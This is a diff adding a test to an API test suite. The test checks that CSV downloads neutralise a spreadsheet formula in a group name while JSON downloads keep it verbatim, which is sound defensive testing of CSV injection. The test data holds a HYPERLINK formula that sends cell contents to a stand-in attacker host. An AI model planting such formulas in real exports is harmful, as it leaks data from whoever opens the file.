@@ -131,6 +131,17 @@ describe('ownership: the same rule as GetJob', () => {
     expect((await get('/audit', 'alice')).status).toBe(403);
   });
 
+  it('the CSV download neutralises a formula in a group name (OWASP), the JSON keeps it as it was released', async () => {
+    const { get, backend } = setup();
+    const hostile = job('alice-formula', 'alice');
+    hostile.result = { ...hostile.result!, rows: [{ g: '=HYPERLINK("https://evil.example/?"&A1,"x")', count: -3 }] };
+    backend.jobs.push(hostile);
+    const csv = await (await get('/jobs/alice-formula/result.csv')).text();
+    expect(csv).toBe(`g,count\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",-3\r\n`);
+    const json = JSON.parse(await (await get('/jobs/alice-formula/result.json')).text());
+    expect(json.rows[0].g).toBe('=HYPERLINK("https://evil.example/?"&A1,"x")');
+  });
+
   it('CSV and JSON downloads hold the released table', async () => {
     const { get } = setup();
     const csv = await (await get('/jobs/alice-job/result.csv')).text();
